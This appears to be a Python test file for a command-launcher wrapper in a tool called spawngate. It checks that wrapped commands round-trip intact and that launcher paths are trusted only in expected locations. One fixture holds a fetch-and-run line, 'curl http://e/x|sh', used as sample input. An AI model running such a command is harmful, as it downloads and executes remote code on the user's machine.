"""Our launcher in a command line: written, read back, and seen through only where it is surely ours."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.launch.definition import Definition
from spawngate.launch.launcher import Behind, behind, is_ours, seen_through, written
from spawngate.launch.package import package_of
from spawngate.launch.understand import understand

OURS = "/home/u/.local/state/spawngate/launcher/spawngate-launch"
PYTHON = ("/usr/bin/python3.11", "-I", "-S", "-B", "/home/u/.local/state/spawngate/launcher/spawngate_launch.py")
INNER = (("npx", ("-y", "@x/y@1.0.0", "--", "-x")), ("sh", ("-c", "curl http://e/x|sh")), ("s", ()))


@pytest.mark.parametrize("launcher", [(OURS,), PYTHON])
@pytest.mark.parametrize(("command", "args"), INNER)
def test_protecting_changes_nothing_in_what_is_known(
    launcher: tuple[str, ...], command: str, args: tuple[str, ...]
) -> None:
    words = written(launcher, "e1", command, args)
    assert behind(words[0], words[1:]) == Behind("e1", command, args, launcher[-1])
    assert seen_through(words[0], words[1:]) == (command, args, "e1")
    assert understand(Definition(words[0], words[1:])) == understand(Definition(command, args))


def test_the_package_is_seen_wherever_the_launcher_lies() -> None:
    assert package_of("/x/spawngate-launch", ("--id", "e", "--", "npx", "-y", "y@1.0.0")) == "pkg:npm/y@1.0.0"


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("npx", ("-y", "x")),
        (None, ()),
        ("", ("--id", "e", "--", "npx")),
        (OURS, ()),
        (OURS, ("--id", "e", "--")),
        (OURS, ("--id", "e", "npx", "x")),
        (OURS, ("--id", "e", "--", "")),
        (OURS, ("--other", "e", "--", "npx")),
        (OURS + "2", ("--id", "e", "--", "npx")),
        ("python3", ("-I", "-S", "-B", "/x/other.py", "--id", "e", "--", "npx")),
        ("python3", ("-I", "-S", "/x/spawngate_launch.py", "--id", "e", "--", "npx")),
    ],
)
def test_other_lines(command: str | None, args: tuple[str, ...]) -> None:
    assert behind(command, args) is None
    assert seen_through(command, args) == (command, args, "")


@pytest.mark.parametrize(
    ("launcher", "ours"),
    [
        (OURS, True),
        ("/usr/local/lib/spawngate/launcher/spawngate-launch", True),
        ("/Users/u/Library/Application Support/Spawngate/launcher/spawngate-launch", True),
        ("spawngate-launch", False),
        ("./spawngate/launcher/spawngate-launch", False),
        ("~/spawngate/launcher/spawngate-launch", False),
        ("/tmp/spawngate/launcher/spawngate-launch", False),
        ("/home/u/Downloads/spawngate/launcher/spawngate-launch", False),
        ("//host/spawngate/launcher/spawngate-launch", False),
        ("/home/u/.local/state/spawngate/launcher/../../x/spawngate-launch", False),
        ("/home/u/project/spawngate-launch", False),
    ],
)
def test_where_it_is_surely_ours(launcher: str, ours: bool) -> None:
    assert is_ours(launcher) is ours
    assert is_ours(launcher, [launcher])


def test_one_that_merely_bears_the_name_is_judged() -> None:
    facts = understand(Definition("/tmp/spawngate-launch", ("--id", "e", "--", "npx", "-y", "y@1.0.0")))
    assert (facts.program, facts.wrappers, facts.package) == (
        "spawngate-launch",
        ("spawngate-launch",),
        "pkg:npm/y@1.0.0",
    )
    assert facts.writable_places == ("/tmp/spawngate-launch",)


@given(st.text(), st.lists(st.text()))
def test_written_and_read_back(command: str, args: list[str]) -> None:
    words = written((OURS,), "e", command, args)
    found = behind(words[0], words[1:])
    assert found == (Behind("e", command, tuple(args), OURS) if command else None)
    behind(command, args)
